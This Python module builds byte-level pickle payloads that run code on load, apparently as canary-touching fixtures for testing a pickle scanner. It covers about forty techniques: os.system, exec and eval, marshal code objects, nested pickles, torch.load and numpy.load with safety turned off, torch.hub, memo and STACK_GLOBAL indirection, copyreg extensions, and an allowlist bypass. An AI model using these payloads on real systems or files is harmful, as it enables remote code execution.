"""Every way known to make a pickle run something, as pieces of pickle that can stand anywhere a value may stand.

A piece leaves one value on the stack. What it runs touches a canary named after the trick. `must_name` is what a
description has to list.
"""

import marshal
import pickle
import struct
from dataclasses import dataclass
from pathlib import Path


@dataclass(frozen=True)
class Trick:
    name: str
    piece: bytes
    must_name: str
    protocol: int = 2


def name(module, attribute):
    """GLOBAL."""
    return b"c" + f"{module}\n{attribute}\n".encode()


def text(value):
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def data(value):
    return b"B" + struct.pack("<I", len(value)) + value


def tuple_of(*parts):
    return b"(" + b"".join(parts) + b"t"


def call(function, *arguments):
    """REDUCE."""
    return function + tuple_of(*arguments) + b"R"


def call_with(function, keywords, *arguments):
    """A call with keywords: functools.partial made by NEWOBJ_EX, then called."""
    pairs = b"".join(text(key) + value for key, value in keywords.items())
    made = name("functools", "partial") + tuple_of(function, *arguments) + b"}(" + pairs + b"u\x92"
    return made + b")R"


FALSE, EMPTY = b"\x89", b")"


def tricks(folder):
    """All of them. `folder` is where canaries go, and where the files lie that some tricks load.

    Files are made there: evil.py, evil.pkl, hubconf.py.
    """
    folder = Path(folder)
    made = []

    def add(trick, must_name, build, protocol=2):
        canary = folder / f"canary-{trick}"
        shell = f"touch '{canary}'"
        code = f"open({str(canary)!r}, 'w').close()"
        made.append(Trick(trick, build(shell, code, canary), must_name, protocol))

    def file_for(trick, suffix, content):
        path = folder / f"evil_{trick}{suffix}"
        path.write_bytes(content)
        return text(str(path))

    def pickled(shell):
        return b"\x80\x02" + call(name("os", "system"), text(shell)) + b"."

    run = "builtins.exec"
    add("os_system", "os.system", lambda shell, code, canary: call(name("os", "system"), text(shell)))
    add("posix_system", "posix.system", lambda shell, code, canary: call(name("posix", "system"), text(shell)))
    add("os_popen", "os.popen", lambda shell, code, canary: call(name("os", "popen"), text(shell)))
    add(
        "subprocess",
        "subprocess.call",
        lambda shell, code, canary: call(
            name("subprocess", "call"), b"]" + text("touch") + b"a" + text(str(canary)) + b"a"
        ),
    )
    add(
        "popen_newobj",
        "subprocess.getoutput",
        lambda shell, code, canary: call(name("subprocess", "getoutput"), text(shell)),
    )
    add(
        "commands_of_python_2",
        "subprocess.getoutput",
        lambda shell, code, canary: call(name("commands", "getoutput"), text(shell)),
    )
    add("eval", "builtins.eval", lambda shell, code, canary: call(name("builtins", "eval"), text(code)))
    add("exec", run, lambda shell, code, canary: call(name("builtins", "exec"), text(code)))
    add("eval_of_python_2", "builtins.eval", lambda shell, code, canary: call(name("__builtin__", "eval"), text(code)))
    add(
        "open",
        "builtins.open",
        lambda shell, code, canary: call(name("builtins", "open"), text(str(canary)), text("w")),
    )
    add("io_open", "io.open", lambda shell, code, canary: call(name("io", "open"), text(str(canary)), text("w")))
    add("mkdir", "os.mkdir", lambda shell, code, canary: call(name("os", "mkdir"), text(str(canary))))
    add(
        "nested_getattr",
        "builtins.getattr",
        lambda shell, code, canary: call(
            call(name("builtins", "getattr"), call(name("importlib", "import_module"), text("os")), text("system")),
            text(shell),
        ),
    )
    add(
        "operator",
        "operator.attrgetter",
        lambda shell, code, canary: call(
            call(
                call(name("operator", "attrgetter"), text("system")), call(name("builtins", "__import__"), text("os"))
            ),
            text(shell),
        ),
    )
    add(
        "methodcaller",
        "operator.methodcaller",
        lambda shell, code, canary: call(
            call(name("operator", "methodcaller"), text("system"), text(shell)),
            call(name("builtins", "__import__"), text("os")),
        ),
    )
    add(
        "builtins_map",
        "builtins.map",
        lambda shell, code, canary: call(
            name("builtins", "list"), call(name("builtins", "map"), name("os", "system"), tuple_of(text(shell)))
        ),
    )
    add(
        "runpy",
        "runpy.run_path",
        lambda shell, code, canary: call(name("runpy", "run_path"), file_for("runpy", ".py", code.encode())),
    )
    add(
        "timeit",
        "timeit.timeit",
        lambda shell, code, canary: call(
            name("timeit", "timeit"), text(code), text("pass"), name("time", "perf_counter"), b"K\x01"
        ),
    )
    add(
        "c_profile",
        "cProfile.run",
        lambda shell, code, canary: call(name("cProfile", "run"), text(code), text(str(folder / "profile"))),
    )
    add(
        "code_object",
        "marshal.loads",
        lambda shell, code, canary: call(
            call(
                name("types", "FunctionType"),
                call(name("marshal", "loads"), data(marshal.dumps(compile(code, "x", "exec")))),
                call(name("builtins", "vars"), call(name("builtins", "__import__"), text("builtins"))),
            )
        ),
    )
    add(
        "pickle_in_pickle",
        "_pickle.loads",
        lambda shell, code, canary: call(name("_pickle", "loads"), data(pickled(shell))),
    )
    add(
        "pickle_in_pickle_in_pickle",
        "pickle.loads",
        lambda shell, code, canary: call(
            name("pickle", "loads"), data(b"\x80\x02" + call(name("pickle", "loads"), data(pickled(shell))) + b".")
        ),
    )
    add(
        "load_from_bytes",
        "torch.storage._load_from_bytes",
        lambda shell, code, canary: call(name("torch.storage", "_load_from_bytes"), data(pickled(shell))),
    )
    add(
        "torch_load",
        "torch.load",
        lambda shell, code, canary: call_with(
            name("torch", "load"), {"weights_only": FALSE}, file_for("torch_load", ".pkl", pickled(shell))
        ),
    )
    add(
        "torch_serialization_load",
        "torch.serialization.load",
        lambda shell, code, canary: call_with(
            name("torch.serialization", "load"),
            {"weights_only": FALSE},
            file_for("torch_serialization_load", ".pkl", pickled(shell)),
        ),
    )
    add(
        "joblib",
        "joblib.load",
        lambda shell, code, canary: call(name("joblib", "load"), file_for("joblib", ".pkl", pickled(shell))),
    )
    add(
        "numpy_load",
        "numpy.load",
        lambda shell, code, canary: call_with(
            name("numpy", "load"), {"allow_pickle": b"\x88"}, file_for("numpy_load", ".npy", pickled(shell))
        ),
    )
    add(
        "torch_hub",
        "torch.hub.load",
        lambda shell, code, canary: call_with(
            name("torch.hub", "load"), {"source": text("local")}, hub(folder, code), text("model")
        ),
    )
    add(
        "torch_os",
        "torch.os.system",
        lambda shell, code, canary: (
            b"\x80\x04" + text("torch") + text("os.system") + b"\x93" + tuple_of(text(shell)) + b"R"
        ),
    )
    add(
        "collect_env",
        "torch.utils.collect_env.run",
        lambda shell, code, canary: call(name("torch.utils.collect_env", "run"), text(shell)),
    )
    add(
        "through_an_allowed_global",
        "os.system",
        lambda shell, code, canary: call(
            name("torch._tensor", "_rebuild_from_type_v2"),
            name("os", "system"),
            name("torch", "Tensor"),
            tuple_of(text(shell)),
            b"}",
        ),
    )
    add(
        "stack_global",
        "os.system",
        lambda shell, code, canary: text("os") + text("system") + b"\x93" + tuple_of(text(shell)) + b"R",
        4,
    )
    add(
        "stack_global_by_memo",
        "os.system",
        lambda shell, code, canary: (
            text("system")
            + put(7001)
            + b"0"
            + text("os")
            + put(7002)
            + b"0"
            + get(7002)
            + get(7001)
            + b"\x93"
            + tuple_of(text(shell))
            + b"R"
        ),
        4,
    )
    add(
        "function_by_memo",
        "os.system",
        lambda shell, code, canary: name("os", "system") + put(7003) + b"0" + get(7003) + tuple_of(text(shell)) + b"R",
    )
    add("inst", "os.system", lambda shell, code, canary: b"(" + text(shell) + b"ios\nsystem\n")
    add("obj", "os.system", lambda shell, code, canary: b"(" + name("os", "system") + text(shell) + b"o")
    add(
        "build_with_setstate",
        "os.system",
        lambda shell, code, canary: (
            call(name("argparse", "Namespace"))
            + b"}"
            + text("__setstate__")
            + name("os", "system")
            + b"sb"
            + text(shell)
            + b"b"
        ),
    )
    add(
        "newobj_ex",
        "functools.partial",
        lambda shell, code, canary: call_with(name("builtins", "exec"), {}, text(code)),
    )
    add(
        "extension_1",
        "copyreg._extension_registry.240",
        lambda shell, code, canary: b"\x82\xf0" + tuple_of(text(shell)) + b"R",
    )
    add(
        "extension_2",
        "copyreg._extension_registry.4660",
        lambda shell, code, canary: b"\x83\x34\x12" + tuple_of(text(shell)) + b"R",
    )
    add(
        "extension_4",
        "copyreg._extension_registry.1193046",
        lambda shell, code, canary: b"\x84\x56\x34\x12\x00" + tuple_of(text(shell)) + b"R",
    )
    add(
        "default_factory",
        "os.system",
        lambda shell, code, canary: call(
            name("collections", "defaultdict"), call_with(name("os", "system"), {}, text(shell))
        ),
    )
    add("protocol_0", "os.system", lambda shell, code, canary: b"cos\nsystem\n(S" + repr(shell).encode() + b"\ntR")
    add(
        "reduce_ex",
        "os.system",
        lambda shell, code, canary: pickle.dumps(ReduceEx(shell), 2)[2:-1].replace(b"posix", b"os"),
    )
    return made


class ReduceEx:
    """Pickled by its own `__reduce_ex__`."""

    def __init__(self, shell):
        self.shell = shell

    def __reduce_ex__(self, protocol):
        import os

        return os.system, (self.shell,)


EXTENSIONS = {0xF0: ("os", "system"), 0x1234: ("os", "system"), 0x123456: ("os", "system")}


def put(place):
    return b"r" + struct.pack("<I", place)


def get(place):
    return b"j" + struct.pack("<I", place)


def hub(folder, code):
    place = folder / "hub"
    place.mkdir(exist_ok=True)
    (place / "hubconf.py").write_text(f"{code}\ndef model(): pass\n")
    return text(str(place))
